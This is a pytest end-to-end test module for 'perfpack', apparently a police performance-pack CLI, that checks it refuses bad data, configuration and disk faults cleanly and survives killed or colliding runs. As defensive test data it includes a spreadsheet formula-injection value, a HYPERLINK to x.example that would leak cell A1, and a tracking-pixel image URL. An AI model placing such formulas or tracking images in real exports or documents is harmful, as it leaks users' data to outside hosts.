"""The pack holds under bad input, collisions and kills, through the command line.

Every bad-input class ends with exit code 2, a plain message (no traceback) naming the file,
the column and example rows, and the outputs of an earlier good run byte-for-byte as they
were. Messy but valid input (a byte-order mark, Windows line endings, extra columns) loads and
runs, with the extra columns in the data-quality report. Two runs of one period at once never
mix their files; a run killed part-way leaves the earlier outputs intact, no processes behind,
and nothing that breaks the next run.

Beyond bad data: a configuration, commentary or risk register that is wrong in any way the
sections would trip on (refused before anything runs); an outputs folder the pack did not make
(never replaced); full and read-only disks (injected by ``tests/faults/sitecustomize.py``);
SIGTERM and SIGHUP (handled as Ctrl-C) and SIGKILL (nothing left running, no copy of the data
left); a partial run (the other sections kept); hostile text in the data (inert in the CSV);
local folders (never in the published notebooks and pages).

The classes already covered in ``test_pack.py`` (unknown offence code, unknown section, period
outside the data, bad period id, a failing or hanging notebook, a held lock, debris) are not
repeated here. One good run of a one-section pack on the tiny folder is shared by the module;
each test works on a copy of its outputs.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import psutil
import pytest
from test_pack import OK_BODY, _notebook, snapshot

from conftest import write_tiny

pytestmark = pytest.mark.e2e
PERIOD = "2020-Q1"


ROOT = Path(__file__).resolve().parents[2]
FAULTS = Path(__file__).resolve().parents[1] / "faults"


def perfpack_run(data: Path, out: Path, nbs: Path, *extra, config: Path | None = None) -> list[str]:
    head = [sys.executable, "-m", "perfpack.cli"] + (["--config", str(config)] if config else [])
    return [*head, "run", "--period", PERIOD, "--data", str(data), "--out", str(out), "--notebooks", str(nbs), "--no-progress", *extra]


def run(data: Path, out: Path, nbs: Path, *extra, config: Path | None = None, env: dict | None = None) -> subprocess.CompletedProcess:
    return subprocess.run(perfpack_run(data, out, nbs, *extra, config=config), capture_output=True, text=True, timeout=300, env=env)


def faulty(**faults) -> dict:
    """The environment of a run with faults injected (tests/faults/sitecustomize.py)."""
    return dict(os.environ, PYTHONPATH=os.pathsep.join([str(FAULTS), os.environ.get("PYTHONPATH", "")]), **faults)


@pytest.fixture(scope="module")
def baseline(tmp_path_factory):
    """One good run of a one-section pack on the tiny folder: its data, notebooks and outputs."""
    root = tmp_path_factory.mktemp("baseline")
    data = write_tiny(root / "data")
    nbs = root / "nbs"
    nbs.mkdir()
    _notebook(nbs / "01-fine.ipynb", OK_BODY.format(id="01-fine"))
    out = root / "out"
    proc = run(data, out, nbs)
    assert proc.returncode == 0, proc.stderr[-3000:]
    return {"data": data, "nbs": nbs, "out": out, "files": snapshot(out)}


@pytest.fixture
def work(baseline, tmp_path):
    """A copy of the baseline's data and outputs for one test to change."""
    data = shutil.copytree(baseline["data"], tmp_path / "data")
    out = shutil.copytree(baseline["out"], tmp_path / "out")
    return {"data": data, "out": out, "nbs": baseline["nbs"], "before": baseline["files"], "tmp": tmp_path}


def edit(folder: Path, table: str, old: str, new: str) -> None:
    p = folder / f"{table}.csv"
    text = p.read_text(encoding="utf-8")
    assert old in text, f"{old!r} is not in {table}.csv"
    p.write_text(text.replace(old, new, 1), encoding="utf-8")


def no_debris(out: Path) -> None:
    left = [p.name for p in out.iterdir() if p.name.startswith(".")]
    assert not left, f"left behind in {out}: {left}"


# ---- bad input: one case per class ------------------------------------------------------------
# (id, how to break the tiny folder, what the message must say: file, column, example rows)

BAD_INPUT = [
    (
        "missing-file",
        lambda d: (d / "crimes.csv").unlink(),
        ["crimes.csv", "file not found", "What to do"],
    ),  # crimes must be there; another table may be absent (not available)
    ("empty-file", lambda d: (d / "calls.csv").write_text(""), ["calls.csv", "empty (0 bytes)"]),
    (
        "missing-column",
        lambda d: edit(d, "crimes", "crime_id,recorded_date,offence_code,", "crime_id,recorded_date,offence,"),
        ["crimes.csv, column 'offence_code': column is missing", "found: crime_id, recorded_date, offence,"],
    ),
    (
        "wrong-type-number",
        lambda d: edit(d, "calls", "2020-01-01,101,300", "2020-01-01,101,three hundred"),
        ["calls.csv, column 'calls'", "1 value that is not a whole number", "line 3: 'three hundred'"],
    ),
    (
        "wrong-type-boolean",
        lambda d: edit(d, "crimes", "Tamworth,true", "Tamworth,maybe"),
        ["crimes.csv, column 'domestic'", "not true/false", "line 3: 'maybe'"],
    ),
    (
        "unparseable-date",
        lambda d: edit(d, "crimes", "2020-01-05", "05/01/2020"),
        ["crimes.csv, column 'recorded_date'", "1 value that is not a real date", "line 2: '05/01/2020'"],
    ),
    (
        "impossible-date",
        lambda d: edit(d, "incidents", "2020-05-02 23:10:00", "2020-02-30 23:10:00"),
        ["incidents.csv, column 'opened_at'", "1 value that is not a real date", "line 3: '2020-02-30 23:10:00'"],
    ),
    ("future-date", lambda d: edit(d, "fpns", "2020-04-11", "2099-04-11"), ["fpns.csv, column 'issued_date'", "in the future", "line 2: '2099-04-11'"]),
    (
        "date-before-2000",
        lambda d: edit(d, "fraud_reports", "2020-06-01", "1996-06-01"),
        ["fraud_reports.csv, column 'reported_date'", "before 2000", "line 2: '1996-06-01'"],
    ),
    (
        "date-apart-from-the-rest",
        lambda d: edit(d, "crimes", "2019-03-01", "2011-03-01"),
        ["crimes.csv, column 'recorded_date'", "apart from the rest", "line 4: '2011-03-01'", "2019-12-31 to 2020-02-10"],
    ),
    (
        "duplicate-identifier",
        lambda d: edit(d, "incidents", "INA2", "INA1"),
        ["incidents.csv, column 'incident_id'", "duplicate identifier", "line 2: 'INA1'", "line 3: 'INA1'"],
    ),
    (
        "negative-loss",
        lambda d: edit(d, "fraud_reports", "120.50", "-120.50"),
        ["fraud_reports.csv, column 'loss_gbp'", "1 negative value", "line 2: '-120.50'"],
    ),
    (
        "unknown-npa",
        lambda d: edit(d, "crimes", "2020-02-10,8N,Tamworth", "2020-02-10,8N,Atlantis"),
        ["crimes.csv, column 'npa'", "1 unknown NPA name", "line 3: 'Atlantis'", "force.npas"],
    ),
]


def rewrite(folder: Path, table: str, text: str, encoding: str = "utf-8") -> None:
    (folder / f"{table}.csv").write_bytes(text.encode(encoding))


def quoted_line_break(d: Path) -> None:
    edit(d, "crimes", "CRA2,2020-02-10,8N,Tamworth,true,VX1\n", 'CRA2,2020-02-10,8N,Tamworth,true,"VX\n1"\nCRA9,2020-02-11,8N,Atlantis,true,\n')


def five_atlantis(d: Path) -> None:
    p = d / "crimes.csv"
    p.write_text(p.read_text(encoding="utf-8") + "".join(f"CRB{i},2020-01-0{i + 1},28E,Atlantis,false,\n" for i in range(5)), encoding="utf-8")


def both_formats(d: Path) -> None:
    import pandas as pd

    pd.read_csv(d / "calls.csv", dtype=str).to_parquet(d / "calls.parquet")


BAD_INPUT += [
    (
        "count-1e300",
        lambda d: edit(d, "calls", "2020-01-01,101,300", "2020-01-01,101,1e300"),
        ["calls.csv, column 'calls'", "1 value too large to be real", "line 3: '1e300'"],
    ),
    (
        "count-1e19",
        lambda d: edit(d, "calls", "2020-01-01,101,300", "2020-01-01,101,1e19"),
        ["calls.csv, column 'calls'", "1 value too large to be real", "line 3: '1e19'"],
    ),
    (
        "loss-inf",
        lambda d: edit(d, "fraud_reports", "120.50", "inf"),
        ["fraud_reports.csv, column 'loss_gbp'", "1 value too large to be real", "line 2: 'inf'", "!£inf"],
    ),
    (
        "loss-1e300",
        lambda d: edit(d, "fraud_reports", "120.50", "1e300"),
        ["fraud_reports.csv, column 'loss_gbp'", "1 value too large to be real", "line 2: '1e300'"],
    ),
    (
        "time-zone",
        lambda d: edit(d, "incidents", "2020-05-02 23:10:00", "2020-05-02T23:10:00+01:00"),
        ["incidents.csv, column 'opened_at'", "1 timestamp with a time zone", "line 3: '2020-05-02T23:10:00+01:00'", "without a zone"],
    ),
    (
        "windows-1252",
        lambda d: rewrite(d, "fpns", "fpn_id,issued_date,breach_type,npa\nFPA1,2020-04-11,gathering café,Stafford\n", "cp1252"),
        ["fpns.csv: 1 line is not UTF-8 text", "line 2: byte 0xE9", "save the file as UTF-8"],
    ),
    (
        "excel-saved-as-csv",
        lambda d: (d / "fpns.csv").write_bytes(b"PK\x03\x04\x14\x00\x06\x00" + bytes(200)),
        ["fpns.csv: the file is an Excel workbook (.xlsx)", "Save As", "!column is missing"],
    ),
    ("csv-and-parquet", both_formats, ["the folder holds the calls table twice (calls.csv and calls.parquet)", "!calls.csv, column"]),
    (
        "parse-failure-once",
        lambda d: edit(d, "crimes", "2020-01-05", "05/01/2020"),
        ["1 problem)", "1 value that is not a real date", "!empty value", "!that are"],
    ),
    ("line-after-quoted-break", quoted_line_break, ["crimes.csv, column 'npa'", "line 5: 'Atlantis'"]),
    ("unknown-area-once", five_atlantis, ["crimes.csv, column 'npa': 1 unknown NPA name in 5 rows", "line 6: 'Atlantis' (and 4 more rows)"]),
    (
        "wrong-number-of-fields",
        lambda d: edit(d, "crimes", "CRA1,2020-01-05,28E,Stafford,false,", "CRA1,2020-01-05,28E,Stafford,false,,extra"),
        ["crimes.csv: 1 record has a different number of fields", "line 2: 7 fields"],
    ),
]


def says_all(text: str, says: list[str]) -> None:
    for words in says:
        if words.startswith("!"):
            assert words[1:] not in text, f"{words[1:]!r} should not be in:\n{text}"
        else:
            assert words in text, f"{words!r} not in:\n{text}"


@pytest.fixture(scope="module")
def plain_kernels(tmp_path_factory) -> Path:
    """The demo profile with ``runner.fork_kernels: false``. A run refused at validation has
    started its section workers and the kernel server already (they start while the data are
    checked); with plain kernels there is no kernel server to start and stop, 3 s of CPU less a
    case. The kernel server's own behaviour while a run is refused is tested apart
    (test_a_run_killed_while_it_validates_leaves_no_process_and_no_copy_of_the_data)."""
    folder = shutil.copytree(ROOT / "profiles" / "demo", tmp_path_factory.mktemp("plain") / "demo")
    pack = folder / "pack.yaml"
    text = pack.read_text(encoding="utf-8")
    assert "fork_kernels: true" in text
    pack.write_text(text.replace("fork_kernels: true", "fork_kernels: false"), encoding="utf-8")
    return pack


@pytest.mark.parametrize("case,breaks,says", BAD_INPUT, ids=[c[0] for c in BAD_INPUT])
def test_bad_input_is_refused_plainly_and_changes_nothing(work, plain_kernels, case, breaks, says):
    breaks(work["data"])
    proc = run(work["data"], work["out"], work["nbs"], config=plain_kernels)
    assert proc.returncode == 2, f"exit {proc.returncode}\n{proc.stderr[-2000:]}"
    assert "Traceback" not in proc.stderr and "Traceback" not in proc.stdout
    assert proc.stderr.startswith("perfpack run: The data in"), proc.stderr[:300]
    assert "nothing was run and no outputs were changed" in proc.stderr
    says_all(proc.stderr, says)
    assert snapshot(work["out"]) == work["before"], "the earlier outputs changed"


def test_messy_but_valid_input_loads_and_reports_extra_columns(work):
    """A byte-order mark and Windows line endings load; extra columns are allowed and shown in
    the data-quality report (index page and manifest)."""
    crimes = work["data"] / "crimes.csv"
    crimes.write_bytes(b"\xef\xbb\xbf" + crimes.read_text(encoding="utf-8").replace("\n", "\r\n").encode("utf-8"))
    (work["data"] / "fpns.csv").write_text(
        "fpn_id,issued_date,breach_type,npa,officer_note\r\nFPA1,2020-04-11,gathering,Stafford,seen twice\r\n", encoding="utf-8"
    )
    edit(work["data"], "incidents", "grade,attended\n", "grade,attended,shift\n")
    edit(work["data"], "incidents", ",3,false\n", ",3,false,late\n")
    edit(work["data"], "incidents", ",2,true\n", ",2,true,early\n")
    proc = run(work["data"], work["out"], work["nbs"])
    assert proc.returncode == 0, proc.stderr[-3000:]
    out = work["out"] / PERIOD
    m = json.loads((out / "manifest.json").read_text(encoding="utf-8"))
    quality = m["data_quality"]
    assert quality["fpns"]["extra_columns"] == ["officer_note"]
    assert quality["incidents"]["extra_columns"] == ["shift"]
    assert quality["crimes"]["extra_columns"] == [], "the byte-order mark must not make a column of its own"
    assert quality["crimes"]["rows"] == 4 and quality["crimes"]["first"] == "2019-03-01" and quality["crimes"]["last"] == "2020-02-10"
    index = (out / "index.html").read_text(encoding="utf-8")
    quality_html = index[index.find("Data quality") :]
    assert "officer_note" in quality_html and "shift" in quality_html
    no_debris(work["out"])


# ---- runs that collide ------------------------------------------------------------------------


def _published_is_one_run(out: Path) -> dict:
    """The published folder holds the files of exactly one run: its manifest's sections are
    the pages, notebooks and figures present, and every page names the manifest's input files."""
    m = json.loads((out / "manifest.json").read_text(encoding="utf-8"))
    ids = {s["id"] for s in m["sections"]}
    assert {p.stem for p in out.glob("[0-9][0-9]-*.html")} == ids
    assert {p.stem for p in (out / "notebooks").glob("*.ipynb")} == ids
    figures = (out / "figures.csv").read_text(encoding="utf-8").splitlines()[1:]
    assert {row.split(",", 1)[0] for row in figures} <= ids
    hashes = {f["sha256"][:16] for f in m["inputs"]}
    index = (out / "index.html").read_text(encoding="utf-8")
    for s in ids:
        assert f'href="{s}.html"' in index
    for page in [out / "index.html", *(out / f"{s}.html" for s in ids)]:
        shown = set(re.findall(r"sha256:([0-9a-f]{16})", page.read_text(encoding="utf-8")))
        assert shown == hashes, f"{page.name} names other input files than the manifest"
    return m


def test_two_runs_of_one_period_at_once_never_mix(work):
    """Two runs started at the same moment, with different notebooks and data: one is refused
    with the lock message (or they run one after the other); the folder is one run's, whole."""
    data_b = shutil.copytree(work["data"], work["tmp"] / "data_b")
    edit(data_b, "crimes", "CRA4,2019-12-31,105A,Lichfield,true,VX1\n", "CRA4,2019-12-31,105A,Lichfield,true,VX1\nCRA5,2020-03-02,28E,Stafford,false,\n")
    nbs_b = work["tmp"] / "nbs_b"
    shutil.copytree(work["nbs"], nbs_b)
    _notebook(nbs_b / "02-second.ipynb", OK_BODY.format(id="02-second"))
    a = subprocess.Popen(perfpack_run(work["data"], work["out"], work["nbs"]), stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    b = subprocess.Popen(perfpack_run(data_b, work["out"], nbs_b), stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    (_, err_a), (_, err_b) = a.communicate(timeout=300), b.communicate(timeout=300)
    codes = {"a": a.returncode, "b": b.returncode}
    assert set(codes.values()) <= {0, 2} and 0 in codes.values(), f"{codes}\n{err_a[-1500:]}\n{err_b[-1500:]}"
    for rc, err in ((a.returncode, err_a), (b.returncode, err_b)):
        if rc == 2:
            assert f"Another run of {PERIOD} is in progress" in err and "Traceback" not in err, err
    m = _published_is_one_run(work["out"] / PERIOD)
    published = {s["id"] for s in m["sections"]}
    if codes["a"] == 2:
        assert published == {"01-fine", "02-second"}, "the refused run's files were published"
    if codes["b"] == 2:
        assert published == {"01-fine"}, "the refused run's files were published"
    no_debris(work["out"])


# ---- a run killed part-way --------------------------------------------------------------------


def test_killed_run_leaves_outputs_intact_and_the_next_run_succeeds(work):
    out = work["out"]
    nbs = work["tmp"] / "nbs_slow"
    shutil.copytree(work["nbs"], nbs)
    hold, started = work["tmp"] / "HOLD", work["tmp"] / "STARTED"
    hold.write_text("hold the section until the run is killed")
    _notebook(nbs / "02-slow.ipynb", f"import os, time\nif os.path.exists({str(hold)!r}):\n    open({str(started)!r}, 'w').close()\n    time.sleep(120)")
    runner = subprocess.Popen(perfpack_run(work["data"], out, nbs), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
    try:
        deadline = time.monotonic() + 120
        while not started.exists():
            assert runner.poll() is None, f"the run ended (exit {runner.returncode}) before the section started"
            assert time.monotonic() < deadline, "the slow section never started"
            time.sleep(0.2)
        family = psutil.Process(runner.pid).children(recursive=True)  # section workers and their kernels
        assert family, "no section processes under the runner"
        os.killpg(runner.pid, signal.SIGKILL)  # the runner's process group, as a terminal's Ctrl-\ or an OOM kill would
        runner.wait(timeout=30)
    finally:
        if runner.poll() is None:
            os.killpg(runner.pid, signal.SIGKILL)
    # the workers notice their runner has gone and stop their kernels
    gone, alive = psutil.wait_procs(family, timeout=30)
    assert not alive, f"left running after the kill: {[(p.pid, ' '.join(p.cmdline()[-2:])) for p in alive]}"
    assert snapshot(out / PERIOD) == {k.relative_to(PERIOD): v for k, v in work["before"].items() if k.parts[0] == PERIOD}, "the published outputs changed"

    hold.unlink()
    proc = run(work["data"], out, nbs)
    assert proc.returncode == 0, proc.stderr[-3000:]
    m = _published_is_one_run(out / PERIOD)
    assert [s["id"] for s in m["sections"]] == ["01-fine", "02-slow"]
    no_debris(out)


# ---- refused before anything runs: configuration, commentary, register, outputs, options -----
# Each setup gets the test's ``work`` and returns how to run: extra arguments, a configuration,
# an environment, other data or notebooks. The words are checked as above ("!" for absent).


def profile(work: dict, edit_yaml=None, encoding: str = "utf-8") -> Path:
    """A copy of the demo force's profile (pack.yaml, risk model and register, commentary) in
    a folder of its own; ``edit_yaml`` changes pack.yaml's text."""
    folder = work["tmp"] / "profile"
    if not folder.exists():
        shutil.copytree(ROOT / "profiles" / "demo", folder)
    pack = folder / "pack.yaml"
    if edit_yaml:
        text = pack.read_text(encoding="utf-8")
        changed = edit_yaml(text)
        assert changed != text, "the edit changed nothing"
        pack.write_bytes(changed.encode(encoding))
    return pack


def with_strategic_risk(work: dict) -> Path:
    nbs = work["tmp"] / "nbs_risk"
    shutil.copytree(work["nbs"], nbs)
    _notebook(nbs / "08-strategic-risk.ipynb", OK_BODY.format(id="08-strategic-risk"))
    return nbs


def commentary(work: dict, text: str) -> Path:
    pack = profile(work)
    folder = pack.parent / "commentary" / PERIOD
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "01-fine.md").write_text(text, encoding="utf-8")
    return pack


def bad_register(work: dict) -> dict:
    pack = profile(work)
    edit(pack.parent, "risk_register", "3,Responding to the public,3a,", "3,Responding to the public,3z,")
    return {"config": pack, "nbs": with_strategic_risk(work)}


def data_inside_the_outputs(work: dict) -> dict:
    """--out X with the data in X/2020-Q1: a folder the pack did not make."""
    x = work["tmp"] / "x"
    inside = shutil.copytree(work["data"], x / PERIOD)
    work["keep"] = snapshot(x)
    return {"data": inside, "out": x}


def foreign_files_in_the_pack(work: dict) -> dict:
    shutil.copytree(work["data"], work["out"] / PERIOD / "data")
    work["before"] = snapshot(work["out"])
    return {}


def out_is_a_file(work: dict) -> dict:
    f = work["tmp"] / "outputs.txt"
    f.write_text("not a folder")
    work["keep"] = {f.name: f.read_bytes()}
    return {"out": f}


def lock_is_a_folder(work: dict) -> dict:
    (work["out"] / f".{PERIOD}.lock").mkdir()
    work["before"] = snapshot(work["out"])
    return {}


def temp_folder_full(work: dict) -> dict:
    tmpdir = work["tmp"] / "tmpdir"
    tmpdir.mkdir()
    return {"env": faulty(TMPDIR=str(tmpdir), PP_FAULT_ERRNO="ENOSPC", PP_FAULT_PATH=str(tmpdir), PP_FAULT_OPS="mkdir")}


REFUSED = [
    (
        "threshold-ten",
        lambda w: {"config": profile(w, lambda t: t.replace("threshold: 10", "threshold: ten"))},
        ["pack.yaml, line ", ": 'disclosure.threshold' is the text 'ten'", "whole number"],
    ),
    (
        "threshold-negative",
        lambda w: {"config": profile(w, lambda t: t.replace("threshold: 10", "threshold: -1"))},
        ["'disclosure.threshold' is -1", "at least 1"],
    ),
    ("alpha-5", lambda w: {"config": profile(w, lambda t: t.replace("alpha: 0.05", "alpha: 5"))}, ["'statistics.alpha' is 5", "above 0 and below 1"]),
    (
        "fraud-months-0",
        lambda w: {"config": profile(w, lambda t: t.replace("fraud_months: 13", "fraud_months: 0"))},
        ["'windows.fraud_months' is 0", "at least 1"],
    ),
    (
        "covid-periods-3",
        lambda w: {"config": profile(w, lambda t: t.replace("  periods:\n", "  periods: 3\n  old_periods:\n"))},
        ["'covid.periods' is 3; it must be a list", "unknown setting 'covid.old_periods'", "Did you mean 'covid.periods'?"],
    ),
    (
        "boolean-as-text",
        lambda w: {"config": profile(w, lambda t: t.replace("fork_kernels: true", 'fork_kernels: "no"'))},
        ["'runner.fork_kernels' is the text 'no'", "true or false"],
    ),
    (
        "unknown-setting",
        lambda w: {"config": profile(w, lambda t: t.replace("timeout_seconds: 600", "timeout_secs: 600"))},
        ["unknown setting 'runner.timeout_secs'", "Did you mean 'runner.timeout_seconds'?"],
    ),
    (
        "configuration-in-cp1252",
        lambda w: {"config": profile(w, lambda t: t.replace("Knowledge Hub", "Knowledge Hub café"), encoding="cp1252")},
        ["pack.yaml: line ", " is not UTF-8 text", "byte 0xE9", "Save it as UTF-8"],
    ),
    ("register-wrong-sub-area", bad_register, ["risk_register.csv", "line 4", "unknown sub-area '3z' of area 3"]),
    (
        "commentary-remote-image",
        lambda w: {"config": commentary(w, "The force is pleased.\n\n![chart](https://tracker.example/pixel.png)\n")},
        ["01-fine.md, line 3: an image from 'https://tracker.example/pixel.png'", "remove the image"],
    ),
    (
        "commentary-host-image",
        lambda w: {"config": commentary(w, "Words ![](//host.example/x.png)\n")},
        ["01-fine.md, line 1: an image from '//host.example/x.png'"],
    ),
    (
        "commentary-not-utf8",
        lambda w: {
            "config": commentary(w, "x"),
            "then": lambda: (w["tmp"] / "profile" / "commentary" / PERIOD / "01-fine.md").write_bytes("Caf\xe9 culture\n".encode("cp1252")),
        },
        ["01-fine.md: 1 line is not UTF-8 text", "save the file as UTF-8"],
    ),
    ("out-is-a-file", out_is_a_file, ["outputs.txt is a file, not a folder"]),
    (
        "data-inside-the-outputs",
        data_inside_the_outputs,
        [f"x/{PERIOD} exists and was not made by the pack", "crimes.csv", "Move the folder, or choose another --out"],
    ),
    ("foreign-files-in-the-pack", foreign_files_in_the_pack, ["also holds 5 files the pack did not make", "data/calls.csv", "publishing would delete them"]),
    ("lock-is-a-folder", lock_is_a_folder, [f".{PERIOD}.lock is a folder, not a lock file"]),
    ("timeout-0", lambda w: {"extra": ["--timeout", "0"]}, ["--timeout is 0; it must be a whole number of at least 1"]),
    ("timeout-negative", lambda w: {"extra": ["--timeout", "-5"]}, ["--timeout is -5"]),
    ("workers-0", lambda w: {"extra": ["--workers", "0"]}, ["--workers is 0"]),
    ("data-is-a-file", lambda w: {"data": w["data"] / "crimes.csv"}, ["crimes.csv: this is a file, not a folder", "not one file in it"]),
    (
        "stray-snapshot-json",
        lambda w: {"then": lambda: (w["data"] / "snapshot.json").write_text("{}")},
        ["holds snapshot.json as well as the tables", "stray copy", "Move"],
    ),
    (
        "read-only-outputs",
        lambda w: {"env": faulty(PP_FAULT_ERRNO="EROFS", PP_FAULT_PATH=str(w["out"]))},
        ["read-only disk", "Nothing was published; the earlier outputs are unchanged."],
    ),
    ("temp-folder-full", temp_folder_full, ["The disk is full", "temporary folder", "TMPDIR"]),
    (
        "disk-full-writing-the-paper",
        lambda w: {"env": faulty(PP_FAULT_ERRNO="ENOSPC", PP_FAULT_PATH="meeting-paper.docx")},
        ["The disk is full (", "meeting-paper.docx) while writing the draft meeting paper", "Nothing was published"],
    ),
    (
        "setting-written-twice",
        lambda w: {"config": profile(w, lambda t: t.replace("  alpha: 0.05\n", "  alpha: 0.05\n  alpha: 0.5\n"))},
        ["pack.yaml, line ", "the setting 'alpha' is written twice in the same group", "Keep the one you mean"],
    ),
    (
        "yaml-syntax",
        lambda w: {"config": profile(w, lambda t: t.replace("  alpha: 0.05\n", "  alpha: [0.05\n"))},
        ["pack.yaml, line ", "not valid YAML", "brackets and quotes are closed"],
    ),
    ("out-is-the-pack", lambda w: {"out": w["out"] / PERIOD}, [f"is a published {PERIOD} pack", "Give the folder that holds the packs"]),
    ("sections-empty", lambda w: {"extra": ["--sections", ""]}, ["--sections names no section"]),
    (
        "new-out-left-out",
        lambda w: {"out": w["tmp"] / "fresh", "data": w["data"] / "crimes.csv", "absent": [w["tmp"] / "fresh"]},
        ["this is a file, not a folder"],
    ),
]


@pytest.mark.parametrize("case,setup,says", REFUSED, ids=[c[0] for c in REFUSED])
def test_refused_before_anything_runs_in_plain_words(work, plain_kernels, case, setup, says):
    how = setup(work)
    if how.get("then"):
        how["then"]()
    out = how.get("out", work["out"])
    config = how.get("config", plain_kernels)  # one section: plain kernels cost no more than the server
    proc = run(how.get("data", work["data"]), out, how.get("nbs", work["nbs"]), *how.get("extra", []), config=config, env=how.get("env"))
    assert proc.returncode == 2, f"exit {proc.returncode}\n{proc.stderr[-2000:]}"
    assert "Traceback" not in proc.stderr and "Traceback" not in proc.stdout, proc.stderr[-3000:]
    assert proc.stderr.startswith("perfpack run: "), proc.stderr[:300]
    says_all(proc.stderr, says)
    assert snapshot(work["out"]) == work["before"], "the earlier outputs changed"
    if "keep" in work:
        where = out if out.is_dir() else out.parent
        now = snapshot(where) if out.is_dir() else {out.name: out.read_bytes()}
        assert now == work["keep"], "files the pack did not make were touched"
    for path in how.get("absent", []):
        assert not path.exists(), f"{path} was made by a run that published nothing"
    if case != "lock-is-a-folder":  # that folder is not the pack's to remove
        no_debris(work["out"])


def test_section_numbers_without_the_leading_zero(work):
    proc = run(work["data"], work["out"], work["nbs"], "--sections", "1")
    assert proc.returncode == 0, proc.stderr[-2000:]
    assert [s["id"] for s in json.loads((work["out"] / PERIOD / "manifest.json").read_text())["sections"]] == ["01-fine"]


def test_help_shows_the_exit_codes():
    for args in ([], ["run"]):
        proc = subprocess.run([sys.executable, "-m", "perfpack.cli", *args, "--help"], capture_output=True, text=True, timeout=60)
        assert proc.returncode == 0 and "exit codes:" in proc.stdout and "2    bad input" in proc.stdout and "143 stopped by SIGTERM" in proc.stdout, (
            proc.stdout
        )


# ---- a partial run keeps the other sections --------------------------------------------------


def test_a_partial_run_updates_its_sections_inside_the_pack_and_keeps_the_others(work):
    nbs = work["tmp"] / "nbs_two"
    shutil.copytree(work["nbs"], nbs)
    _notebook(nbs / "02-second.ipynb", OK_BODY.format(id="02-second"))
    assert run(work["data"], work["out"], nbs).returncode == 0
    out = work["out"] / PERIOD
    whole = snapshot(out)
    first = json.loads((out / "manifest.json").read_text())
    _notebook(nbs / "02-second.ipynb", OK_BODY.format(id="02-second").replace('s.say("fine")', 's.say("updated after the register changed")'))
    proc = run(work["data"], work["out"], nbs, "--sections", "2")
    assert proc.returncode == 0, proc.stderr[-2000:]
    assert "kept" in proc.stdout and "01-fine" in proc.stdout
    after = snapshot(out)
    for kept in (Path("01-fine.html"), Path("notebooks/01-fine.ipynb")):
        assert after[kept] == whole[kept], f"{kept} was not kept as it was"
    assert "updated after the register changed" in (out / "02-second.html").read_text(encoding="utf-8")
    m = json.loads((out / "manifest.json").read_text())
    by_id = {s["id"]: s for s in m["sections"]}
    assert list(by_id) == ["01-fine", "02-second"]
    assert by_id["01-fine"]["kept"] is True and by_id["01-fine"]["run_id"] == first["run_id"]
    assert by_id["02-second"]["run_id"] == m["run_id"] != first["run_id"]
    assert set(m["runs"]) == {first["run_id"], m["run_id"]} and m["runs"][m["run_id"]]["sections"] == ["02-second"]
    assert set(m["files"]) == {f.as_posix() for f in after}
    figures = (out / "figures.csv").read_text(encoding="utf-8").splitlines()
    assert {r.split(",", 1)[0] for r in figures[1:]} == {"01-fine", "02-second"}, "figures.csv has every section"
    index = (out / "index.html").read_text(encoding="utf-8")
    assert 'href="01-fine.html"' in index and 'href="02-second.html"' in index and "Sections from an earlier run" in index
    paper = (out / "meeting-paper.html").read_text(encoding="utf-8")
    assert "01-fine" in paper and "02-second" in paper
    no_debris(work["out"])


# ---- hostile text stays inert; no local folder is published ---------------------------------

HOSTILE_BODY = OK_BODY.replace(
    's.add_value("demo_value", "A value", s.current, 1)',
    'fr = s.data.tables["fraud_reports"]\nfor i, t in enumerate(sorted(fr["fraud_type"].astype(str).unique())):\n    s.add_value(f"fraud_{{i}}", t, s.current, -5.5 - i, previous=-1)',
)


def test_text_a_spreadsheet_would_run_is_neutralised_and_numbers_stay_numbers(work):
    import csv

    from perfpack.stats.figures import read_figures

    edit(work["data"], "fraud_reports", "Consumer fraud", '"=HYPERLINK(""https://x.example/?""&A1,""x"")"')
    edit(work["data"], "fraud_reports", "Romance fraud", "@SUM(A1:A9)")
    nbs = work["tmp"] / "nbs_hostile"
    nbs.mkdir()
    _notebook(nbs / "01-fine.ipynb", HOSTILE_BODY.format(id="01-fine"))
    proc = run(work["data"], work["out"], nbs)
    assert proc.returncode == 0, proc.stderr[-2000:]
    path = work["out"] / PERIOD / "figures.csv"
    rows = list(csv.DictReader(path.open(encoding="utf-8", newline="")))
    labels = {r["label"] for r in rows}
    assert labels == {'\'=HYPERLINK("https://x.example/?"&A1,"x")', "'@SUM(A1:A9)"}, labels
    for r in rows:
        assert r["current"] in ("-5.5", "-6.5") and r["previous"] == "-1" and not r["change"].startswith("'"), r
    for cell in (c for r in rows for c in r.values()):
        assert cell[:1] not in ("=", "+", "@", "\t", "\r") and not (cell[:1] == "-" and not cell.replace("-", "", 1).replace(".", "", 1).isdigit()), cell
    back = read_figures(path)
    assert set(back["label"]) == {'=HYPERLINK("https://x.example/?"&A1,"x")', "@SUM(A1:A9)"}, "the pack reads its own file back as written"
    assert back["current"].dtype.kind == "f"


def test_published_notebooks_and_pages_show_no_local_folder(work):
    nbs = work["tmp"] / "nbs_paths"
    shutil.copytree(work["nbs"], nbs)
    _notebook(
        nbs / "02-broken.ipynb",
        'import warnings\nwarnings.warn("a warning from " + data_dir)\nprint("reading", data_dir, config_path, figures_dir)\nopen(data_dir + "/missing.csv")',
    )
    proc = run(work["data"], work["out"], nbs)
    assert proc.returncode == 1, proc.stderr[-2000:]
    out = work["out"] / PERIOD
    local = {str(work["tmp"]), str(work["tmp"].resolve()), str(ROOT), os.path.expanduser("~") + "/", tempfile_root(), "perfpack-run_", ".build-"}
    for f in [*out.glob("*.html"), *out.glob("notebooks/*.ipynb")]:
        text = f.read_text(encoding="utf-8")
        for folder in local:
            assert folder not in text, f"{f.name} shows {folder!r}"
    nb = json.loads((out / "notebooks" / "02-broken.ipynb").read_text(encoding="utf-8"))
    assert nb["metadata"]["papermill"]["parameters"]["data_dir"] == "data" and nb["metadata"]["papermill"]["parameters"]["figures_dir"] == ""
    injected = next(c for c in nb["cells"] if "injected-parameters" in c["metadata"].get("tags", []))
    assert 'data_dir = "data"' in "".join(injected["source"])
